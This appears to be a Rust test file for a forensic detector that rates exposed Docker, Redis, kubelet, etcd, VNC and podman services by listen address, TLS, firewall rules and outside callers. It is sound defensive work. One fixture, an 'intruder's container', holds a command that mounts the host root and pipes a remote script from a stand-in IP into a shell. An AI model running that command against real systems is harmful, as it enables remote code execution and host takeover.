//! Exposed services: firing, quiet, and the benign listener that looks alike.

#![allow(clippy::indexing_slicing, reason = "a test may fail loudly")]

mod estate;

use coldcase_model::{Severity, action};
use estate::{
    INNER, OUTER, Row, about, answered, connected, container, creates, flow, listens, process,
    request, row, rule, run, severity, strings,
};
use serde_json::{Value, json};

const ONLY: &[&str] = &["exposed-service"];
const OUTSIDER: &str = "198.51.100.77";
const MONITOR: &str = "10.8.0.5";
const OPEN: &str = "/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375";

fn unit(command: &str, listen: &[&str]) -> Row {
    let told = json!({"unit": "docker.service", "directive": "ExecStart", "listen": listen});
    row(action::SERVICE_DEFINED, "unit-file", Some(6 * 3600), told)
        .with(|event| event.command = Some(command.to_owned().into()))
}

/// dockerd on all addresses, as all sources show it.
fn docker() -> Vec<Row> {
    vec![
        unit(OPEN, &["fd://", "0.0.0.0:2375"]),
        process(2273, OPEN, 1.0, -3600),
        listens("[::]:2375", "dockerd", 2273),
    ]
}

fn monitoring() -> Vec<Row> {
    (0..60)
        .map(|number| {
            request(
                -3 * 3600 + number * 300,
                MONITOR,
                INNER,
                "GET",
                "/v1.24/containers/json",
            )
        })
        .collect()
}

fn check(name: &str, rows: &[Vec<Row>], expected: Option<Severity>) {
    let found = run(&rows.concat(), ONLY);
    assert_eq!(
        severity(&found, "docker"),
        expected,
        "{name}: {:?}",
        found.findings
    );
}

#[test]
fn who_called_decides() {
    let create = || vec![creates(0, OUTSIDER, "abcdef012345", "a/b", "/run")];
    let read = || vec![request(0, OUTSIDER, OUTER, "GET", "/version")];
    check(
        "orders from outside",
        &[docker(), monitoring(), create()],
        Some(Severity::High),
    );
    check(
        "reads from outside",
        &[docker(), monitoring(), read()],
        Some(Severity::Medium),
    );
    check(
        "monitoring alone",
        &[docker(), monitoring()],
        Some(Severity::Medium),
    );
    check("nobody", &[docker()], Some(Severity::Medium));
    check(
        "orders from inside",
        &[
            docker(),
            vec![creates(0, "10.8.0.20", "abcdef012345", "a/b", "/run")],
        ],
        Some(Severity::Medium),
    );
    check(
        "refused requests",
        &[
            docker(),
            vec![answered(
                0,
                OUTSIDER,
                OUTER,
                "POST",
                "/v1.24/containers/create",
                403,
            )],
        ],
        Some(Severity::Medium),
    );
    check(
        "not listening at all",
        &[vec![unit("/usr/bin/dockerd -H fd://", &["fd://"])]],
        None,
    );
}

#[test]
fn the_facts_are_those_of_the_evidence() {
    let knock = flow(10, "203.0.113.5", OUTER, 2375, (2, 84), (1, 44));
    let session = flow(20, "203.0.113.150", OUTER, 2375, (6, 346), (4, 534));
    let rows = [
        docker(),
        monitoring(),
        vec![
            creates(0, OUTSIDER, "abcdef012345", "a/b", "/run"),
            knock,
            session,
        ],
    ]
    .concat();
    let found = run(&rows, ONLY);
    assert_eq!(
        found.findings.len(),
        1,
        "sources are joined: {:?}",
        found.findings
    );
    let finding = about(&found, "docker").expect("stated");
    assert_eq!(finding.facts["service"], "docker");
    assert_eq!(finding.facts["listen"], "0.0.0.0:2375");
    assert_eq!(finding.facts["process"], "dockerd[2273]");
    assert_eq!(
        strings(finding, "callers"),
        [MONITOR, OUTSIDER, "203.0.113.150"]
    );
    assert_eq!(strings(finding, "outsiders"), [OUTSIDER, "203.0.113.150"]);
    assert_eq!(strings(finding, "internal"), [MONITOR]);
    assert_eq!(finding.facts["authentication"], Value::Bool(false));
    assert!(
        finding.evidence.len() <= 20 && finding.evidence.iter().all(|one| !one.text.is_empty())
    );
}

#[test]
fn where_it_listens_decides() {
    let at = |listen: &str| {
        let command = format!("/usr/bin/dockerd -H tcp://{listen}");
        vec![
            process(2273, &command, 1.0, -3600),
            listens(listen, "dockerd", 2273),
        ]
    };
    check(
        "an inner address",
        &[at("10.8.0.11:2375"), monitoring()],
        Some(Severity::Low),
    );
    check(
        "a public address",
        &[at("192.0.2.45:2375")],
        Some(Severity::Medium),
    );
    check("the host itself", &[at("127.0.0.1:2375")], None);
    check(
        "another port",
        &[at("0.0.0.0:4243")],
        Some(Severity::Medium),
    );
    let verified = "/usr/bin/dockerd --tlsverify --tlscacert=/ca -H tcp://0.0.0.0:2376";
    check(
        "callers are verified",
        &[vec![
            process(2273, verified, 1.0, -3600),
            listens("[::]:2376", "dockerd", 2273),
        ]],
        Some(Severity::Info),
    );
    let encrypted = "/usr/bin/dockerd --tls -H tcp://0.0.0.0:2376";
    check(
        "only encrypted",
        &[vec![
            process(2273, encrypted, 1.0, -3600),
            listens("[::]:2376", "dockerd", 2273),
        ]],
        Some(Severity::Medium),
    );
}

#[test]
fn configuration_that_is_not_in_force_is_no_exposure() {
    let sockets = || vec![listens("0.0.0.0:22", "sshd", 1425)];
    check(
        "sockets are known and it is not among them",
        &[vec![unit(OPEN, &["0.0.0.0:2375"])], sockets()],
        None,
    );
    check(
        "sockets are not known",
        &[vec![unit(OPEN, &["0.0.0.0:2375"])]],
        Some(Severity::Medium),
    );
    let used = vec![creates(0, OUTSIDER, "abcdef012345", "a/b", "/run")];
    check(
        "it was used before",
        &[vec![unit(OPEN, &["0.0.0.0:2375"])], sockets(), used],
        Some(Severity::High),
    );
}

#[test]
fn the_packet_filter_counts() {
    let drops = || {
        vec![
            rule("INPUT", None, Some("ACCEPT"), None),
            rule("INPUT", Some("DROP"), None, Some(2375)),
        ]
    };
    check(
        "strangers are dropped",
        &[docker(), drops()],
        Some(Severity::Low),
    );
    check(
        "another port is dropped",
        &[
            docker(),
            vec![
                rule("INPUT", None, Some("ACCEPT"), None),
                rule("INPUT", Some("DROP"), None, Some(80)),
            ],
        ],
        Some(Severity::Medium),
    );
    check(
        "who came through came through",
        &[
            docker(),
            drops(),
            vec![creates(0, OUTSIDER, "abcdef012345", "a/b", "/run")],
        ],
        Some(Severity::High),
    );
    let found = run(&[docker(), drops()].concat(), ONLY);
    assert_eq!(
        about(&found, "docker").expect("stated").facts["firewall"],
        "dropped by INPUT rule"
    );
}

#[test]
fn sockets_alone_show_callers() {
    let sessions = || {
        vec![
            connected((OUTER, 2375), OUTSIDER),
            connected((INNER, 2375), MONITOR),
        ]
    };
    check(
        "a session, content unknown",
        &[docker(), sessions()],
        Some(Severity::Medium),
    );
    let intruder = container(
        "x",
        "7bca04455c66",
        "busybox:latest",
        "chroot /mnt sh -c 'curl http://203.0.113.150/a | sh'",
        0,
        json!({"mounts": ["/:/mnt"]}),
    );
    check(
        "beside an intruder's container",
        &[docker(), sessions(), intruder],
        Some(Severity::High),
    );
    let found = run(&[docker(), sessions()].concat(), ONLY);
    assert_eq!(
        strings(about(&found, "docker").expect("stated"), "callers"),
        [MONITOR, OUTSIDER]
    );
}

#[test]
fn a_habit_from_a_public_address_is_no_visit() {
    let deploys = |from: &str, first: i64, count: i64| -> Vec<Row> {
        (0..count)
            .map(|number| {
                request(
                    first + number * 600,
                    from,
                    OUTER,
                    "POST",
                    "/v1.24/containers/ab/restart",
                )
            })
            .collect()
    };
    check(
        "all day, from the start",
        &[docker(), monitoring(), deploys(OUTSIDER, -3 * 3600, 24)],
        Some(Severity::Medium),
    );
    check(
        "all at once, later",
        &[docker(), monitoring(), deploys(OUTSIDER, 0, 12)],
        Some(Severity::High),
    );
}

#[test]
fn a_capture_alone_shows_an_engine() {
    let rows = [
        vec![creates(0, OUTSIDER, "abcdef012345", "a/b", "/run")],
        monitoring(),
    ]
    .concat();
    let found = run(&rows, ONLY);
    let finding = about(&found, "docker").expect("stated");
    assert_eq!(
        (
            finding.severity,
            &finding.facts["listen"],
            &finding.facts["process"]
        ),
        (Severity::High, &json!("192.0.2.45:2375"), &Value::Null)
    );
}

#[test]
fn a_capture_of_others_says_nothing_of_this_host() {
    let elsewhere = request(
        0,
        OUTSIDER,
        "203.0.113.200",
        "POST",
        "/v1.24/containers/create",
    );
    check(
        "another machine was called",
        &[docker(), vec![elsewhere]],
        Some(Severity::Medium),
    );
}

#[test]
fn other_services() {
    let table: &[(&str, &str, Vec<Row>, Option<Severity>)] = &[
        (
            "redis with a password",
            "redis",
            vec![
                process(9, "redis-server *:6379 --requirepass x", 0.0, 0),
                listens("0.0.0.0:6379", "redis-server", 9),
            ],
            None,
        ),
        (
            "redis, nothing known",
            "redis",
            vec![listens("0.0.0.0:6379", "redis-server", 9)],
            Some(Severity::Low),
        ),
        (
            "redis that asks nobody",
            "redis",
            vec![
                process(9, "redis-server *:6379 --protected-mode no", 0.0, 0),
                listens("0.0.0.0:6379", "redis-server", 9),
            ],
            Some(Severity::Medium),
        ),
        (
            "kubelet as it comes",
            "kubelet",
            vec![
                process(9, "/usr/bin/kubelet --config=/x", 1.0, 0),
                listens("[::]:10250", "kubelet", 9),
            ],
            None,
        ),
        (
            "kubelet for everybody",
            "kubelet",
            vec![
                process(9, "/usr/bin/kubelet --anonymous-auth=true", 1.0, 0),
                listens("[::]:10250", "kubelet", 9),
            ],
            Some(Severity::Medium),
        ),
        (
            "etcd with certificates",
            "etcd",
            vec![process(
                9,
                "etcd --client-cert-auth=true --listen-client-urls=https://10.0.0.1:2379",
                1.0,
                0,
            )],
            None,
        ),
        (
            "a web server",
            "nginx",
            vec![listens("0.0.0.0:80", "nginx", 9)],
            None,
        ),
        ("ssh", "ssh", vec![listens("0.0.0.0:22", "sshd", 9)], None),
        (
            "a console of a virtual machine",
            "vnc",
            vec![listens("0.0.0.0:5901", "qemu-kvm", 9)],
            Some(Severity::Low),
        ),
        (
            "the same, used by strangers",
            "vnc",
            vec![
                listens("0.0.0.0:5901", "qemu-kvm", 9),
                flow(0, OUTSIDER, OUTER, 5901, (20, 4_000), (30, 90_000)),
            ],
            Some(Severity::Medium),
        ),
        (
            "podman's service",
            "podman",
            vec![process(
                9,
                "podman system service tcp:0.0.0.0:8080 --time=0",
                0.0,
                0,
            )],
            Some(Severity::Medium),
        ),
    ];
    for (name, service, rows, expected) in table {
        let found = run(rows, ONLY);
        assert_eq!(
            severity(&found, service),
            *expected,
            "{name}: {:?}",
            found.findings
        );
    }
}
